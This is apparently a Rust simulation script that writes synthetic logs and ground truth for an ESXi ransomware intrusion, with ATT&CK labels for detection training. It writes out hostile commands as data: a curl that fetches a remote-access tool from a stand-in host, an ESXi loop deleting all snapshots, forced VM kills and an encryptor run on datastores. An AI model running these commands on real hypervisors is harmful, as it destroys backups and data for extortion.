//! ransom: a help desk is talked into a reset; fast and loud from VPN to the hypervisors, disks swapped, machines switched off.

use crate::cases::acts::{self, time};
use crate::cases::still::{self, Changes};
use crate::ctx::Lab;
use crate::when::{DAY, HOUR, MIN, SEC, T};
use crate::world::User;
use crate::write::esx_files::Seen;
use crate::write::zeek::Flow;

struct Who {
    user: User,
    from: String,
    c2: String,
}

pub fn plot(lab: &mut Lab) {
    lab.truth.intrusion = true;
    lab.truth.entry = "stolen-password".to_owned();
    let mut w = (*lab.w).clone();
    let (from, c2) = (w.external(), w.external());
    let Some(user) = w.users.iter().find(|u| u.admin).cloned() else { return };
    lab.w = std::sync::Arc::new(w);
    let who = Who { user, from, c2 };
    let zero = lab.end - 3 * DAY + 3 * HOUR + lab.rng.range(0, 50 * MIN);
    entry(lab, &who, zero);
    directory(lab, &who, zero + 40 * MIN);
    vcenter(lab, &who, zero + 70 * MIN);
    swap(lab, &who, zero + 2 * HOUR);
    tool(lab, &who, zero + 3 * HOUR);
    hosts(lab, &who, zero + 5 * HOUR);
    still::collect(lab, &Changes::default());
    let scope = &mut lab.truth.scope;
    scope.bytes_out_at_least = lab.bytes_out;
    scope.bytes_out_at_most = lab.bytes_out + lab.bytes_out / 20;
}

/// A login with the right password from a place where its owner has never been, on a new device.
fn entry(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    lab.step(
        "vpn-login",
        &w.vpn.name,
        "initial-access",
        &["T1078", "T1133", "T1078.002"],
        "an administrator logs in over VPN from an address, a device and a client never seen, after failures",
    );
    let mut user = who.user.clone();
    user.agent = "Pulse-Secure/22.7.2.28369 (Windows 11) Pulse/22.7.2.28369".to_owned();
    user.pc = "DESKTOP-9F3K2M1".to_owned();
    for n in 0..3 {
        lab.ics_failed(t - (5 - n) * MIN, &user, &who.from, Some("vpn-login"));
    }
    let inner = format!("{}.14", w.pool);
    let s = lab.ics_login(t, &user, &who.from, &inner, Some("vpn-login!"));
    lab.tls(
        t - SEC,
        &Flow::tcp(&who.from, &w.vpn.ip, 443, "ssl", 9 * HOUR, (300_000_000, 700_000_000)),
        &format!("remote.{}", w.domain),
        Some("vpn-login"),
    );
    lab.ics_logout(t + 9 * HOUR, &s, Some("vpn-login"));
    lab.step(
        "rdp",
        &w.dc.name,
        "lateral-movement",
        &["T1021.001", "T1078", "T1078.002", "T1021"],
        "remote desktop from the VPN address to the domain controller and a desktop",
    );
    for (n, host) in [&w.dc].into_iter().chain(w.desks.first()).enumerate() {
        let at = t + (8 + n as T * 9) * MIN;
        let open = lab.rdp(host, at, &user, &inner, &user.pc, Some("rdp!"));
        lab.zeek_rdp(at - SEC, &inner, &host.ip, &user.login, 3 * HOUR, (9_000_000, 90_000_000), Some("rdp"));
        lab.rdp_end(host, at + 3 * HOUR, &user, &open, &inner, Some("rdp"));
        lab.key("rdp", "exact", "session", &open.0);
    }
    lab.link("vpn-login", "rdp", "interval", "address", &inner);
    for id in ["vpn-login", "rdp"] {
        lab.key(id, "interval", "user", &user.login);
    }
    time(lab, "vpn-login", t - 5 * MIN, t + 9 * HOUR);
    time(lab, "rdp", t + 8 * MIN, t + 4 * HOUR);
}

fn directory(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    lab.step(
        "group-add",
        &w.dc.name,
        "persistence",
        &["T1098", "T1136", "T1136.002", "T1484", "T1098.007", "T1078.002"],
        "an account added to the group that hypervisors take for administrators",
    );
    let Some(member) = w.users.iter().rev().find(|u| !u.admin).cloned() else { return };
    lab.group_add(&w.dc, t, &who.user, &member, "ESX Admins", 4728, Some("group-add!"));
    lab.group_add(&w.dc, t + MIN, &who.user, &member, "vSphere Administrators", 4756, Some("group-add!"));
    lab.link("rdp", "group-add", "interval", "user", &who.user.login);
    time(lab, "group-add", t, t + MIN);
}

fn vcenter(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    lab.step(
        "vcenter-login",
        &w.vcsa.name,
        "lateral-movement",
        &["T1078", "T1021", "T1078.002", "T1021.007"],
        "the administrator's account in vCenter, from the VPN address",
    );
    lab.step(
        "ssh-root",
        &w.vcsa.name,
        "persistence",
        &["T1021.004", "T1098", "T1562", "T1562.004", "T1531", "T1021"],
        "SSH switched on on every hypervisor and root's password set anew",
    );
    let (upn, down) = (w.upn(&who.user.login), w.down(&who.user.login));
    let inner = format!("{}.14", w.pool);
    lab.vc_login(t, &upn, &down, &inner, Some("vcenter-login!"));
    for n in 0..w.esx.len() {
        let at = t + (5 + n as T) * MIN;
        let (op_id, op) = acts::operation(lab, &down);
        lab.vpxd_task(at, SEC, &op_id, &format!("host-{}", 10 + n), "vim.host.ServiceSystem.start", Some("ssh-root!"));
        lab.ssh_enable(n, at + SEC, &op, Some("ssh-root!"));
        lab.hostd_event(n, at + 20 * SEC, &op, "Password was changed for account root on host localhost.localdomain", Some("ssh-root!"));
    }
    lab.link("vpn-login", "vcenter-login", "interval", "address", &inner);
    lab.link("vcenter-login", "ssh-root", "interval", "user", &who.user.login);
    time(lab, "vcenter-login", t, t + 5 * HOUR);
    time(lab, "ssh-root", t + 5 * MIN, t + 9 * MIN);
}

/// A domain controller stopped, its disk hung on another machine and back.
fn swap(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    let mark = Some("disk-swap!");
    lab.step(
        "disk-swap",
        &w.vcsa.name,
        "credential-access",
        &["T1003.003", "T1006", "T1003", "T1578"],
        "a domain controller switched off, its disk attached to another machine and detached again",
    );
    let (Some(dc), Some(other)) = (w.vms.iter().find(|v| v.name == w.dc.name).cloned(), w.vms.last().cloned()) else { return };
    let Some(e) = w.esx.get(dc.esx) else { return };
    let down = w.down(&who.user.login);
    for (n, on) in [false, true].iter().enumerate() {
        let at = t + n as T * 50 * MIN;
        let (op_id, op) = acts::operation(lab, &down);
        let (method, kind, word) = if *on { ("powerOn", "VmPoweredOnEvent", "on") } else { ("powerOff", "VmPoweredOffEvent", "off") };
        lab.vpxd_task(at, 4 * SEC, &op_id, &format!("vm-{}", 1000 + dc.vmid), &format!("vim.VirtualMachine.{method}"), mark);
        lab.vm_power(dc.esx, at, &op, &dc.name, &dc.vmx(), *on, mark);
        lab.vc_event(
            at + 4 * SEC,
            kind,
            &down,
            &w.datacenter,
            &format!("{} on  {} in {} is powered {word}", dc.name, e.fqdn, w.datacenter),
            mark,
        );
    }
    for (n, operation) in ["add", "remove"].iter().enumerate() {
        let at = t + (6 + n as T * 35) * MIN;
        let (op_id, op) = acts::operation(lab, &down);
        lab.vpxd_task(at, 2 * SEC, &op_id, &format!("vm-{}", 1000 + other.vmid), "vim.VirtualMachine.reconfigure", mark);
        lab.hostd_event(other.esx, at + SEC, &op, &format!("Reconfigured {} on {} in ha-datacenter", other.name, e.fqdn), mark);
        let first = format!("Reconfigured {} on {} in {}. ", other.name, e.fqdn, w.datacenter);
        let second = format!(
            "config.hardware.device(2001): (fileName = \"ds:///vmfs/volumes/{}/{}/{}.vmdk\", diskMode = \"persistent\"); operation = \"{operation}\"",
            dc.volume, dc.name, dc.name
        );
        lab.vc_event_parts(at + 2 * SEC, "VmReconfiguredEvent", &down, (&first, &second), mark);
    }
    lab.key("disk-swap", "exact", "vm", &dc.name);
    lab.link("vcenter-login", "disk-swap", "interval", "user", &who.user.login);
    time(lab, "disk-swap", t, t + 51 * MIN);
}

/// Remote control software on vCenter's box, and data out.
fn tool(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    lab.step(
        "remote-tool",
        &w.vcsa.name,
        "command-and-control",
        &["T1219", "T1071.001", "T1572", "T1071", "T1573"],
        "a remote access program on the vCenter appliance, always connected",
    );
    lab.vcsa_exec(
        t,
        ("root", 0),
        "/usr/bin/curl",
        &["curl", "-sSo", "/tmp/tp.tgz", "https://cdn.accessproxy.example/tp.tgz"],
        "/tmp",
        Some("remote-tool!"),
    );
    lab.vcsa_exec(
        t + MIN,
        ("root", 0),
        "/usr/local/bin/accessproxy",
        &["accessproxy", "start", "--token", "00000000"],
        "/tmp",
        Some("remote-tool!"),
    );
    acts::beacon(lab, &w.vcsa.ip, ("proxy.accessproxy.example", &who.c2), (t + 2 * MIN, t + 30 * HOUR), 10 * MIN, Some("remote-tool!"));
    lab.step(
        "exfiltration",
        &w.fs.name,
        "exfiltration",
        &["T1041", "T1048", "T1567", "T1567.002"],
        "the file server sends tens of gigabytes outside within an hour",
    );
    for n in 0..4 {
        let bytes = 6_000_000_000 + lab.rng.below(3_000_000_000);
        lab.tls(
            t + HOUR + n * 14 * MIN,
            &Flow::tcp(&w.fs.ip, &who.c2, 443, "ssl", 13 * MIN, (bytes, bytes / 2000)),
            "files.cloudstore.example",
            Some("exfiltration!"),
        );
        lab.bytes_out += bytes;
    }
    lab.link("remote-tool", "exfiltration", "interval", "address", &who.c2);
    lab.key("remote-tool", "interval", "address", &w.vcsa.ip);
    time(lab, "remote-tool", t, t + 30 * HOUR);
    time(lab, "exfiltration", t + HOUR, t + 2 * HOUR);
}

/// Everything switched off and encrypted, host by host.
fn hosts(lab: &mut Lab, who: &Who, t: T) {
    let w = lab.w.clone();
    lab.step(
        "encrypt",
        &w.vcsa.name,
        "impact",
        &["T1486", "T1489", "T1529", "T1059.004", "T1490", "T1485"],
        "machines switched off by a shell loop on each hypervisor and their files encrypted; backups deleted",
    );
    let inner = format!("{}.14", w.pool);
    for (n, e) in w.esx.iter().enumerate() {
        let at = t + n as T * 12 * MIN;
        let pid = lab.ssh_session(n, at, at + 40 * MIN, "root", &inner, Some("encrypt!"));
        lab.zeek_ssh(at - SEC, &inner, &e.host.ip, "SSH-2.0-OpenSSH_for_Windows_8.6", 40 * MIN, (6_000_000, 900_000), Some("encrypt"));
        let commands = [
            "esxcli vm process list".to_owned(),
            "esxcli system coredump file set --unconfigure".to_owned(),
            "for i in $(vim-cmd vmsvc/getallvms | awk '{print $1}' | grep [0-9]); do vim-cmd vmsvc/snapshot.removeall $i; done".to_owned(),
            "esxcli vm process kill --type=force --world-id=2101000".to_owned(),
            "chmod +x /tmp/lockd".to_owned(),
            format!("/tmp/lockd -t 8 /vmfs/volumes/{}", e.volume),
        ];
        for (m, command) in commands.iter().enumerate() {
            lab.shell(n, at + (1 + m as T) * 40 * SEC, pid, "root", command, Some("encrypt!"));
        }
        for vm in w.vms.iter().filter(|v| v.esx == n && v.on) {
            let op = crate::write::esxi::Op { op_id: format!("vim-cmd-{}-{}", lab.rng.hex(2), lab.rng.hex(4)), user: "root".to_owned() };
            let off = at + 4 * MIN + lab.rng.range(0, 50) * SEC;
            lab.vm_power(n, off, &op, &vm.name, &vm.vmx(), false, Some("encrypt!"));
            lab.vmx_stop(n, at + 5 * MIN, &Seen::of(vm, "VM Network"), Some("encrypt"));
        }
    }
    lab.step("clear-log", &w.dc.name, "defense-evasion", &["T1070.001", "T1070"], "the domain controller's security log is cleared");
    lab.security_cleared(&w.dc, t + HOUR, &who.user, Some("clear-log!"));
    lab.link("vpn-login", "encrypt", "interval", "address", &inner);
    lab.link("ssh-root", "encrypt", "interval", "host", &w.esx.first().map_or(String::new(), |e| e.host.name.clone()));
    lab.link("rdp", "clear-log", "interval", "user", &who.user.login);
    time(lab, "encrypt", t, t + HOUR);
    time(lab, "clear-log", t + HOUR, t + HOUR);
}
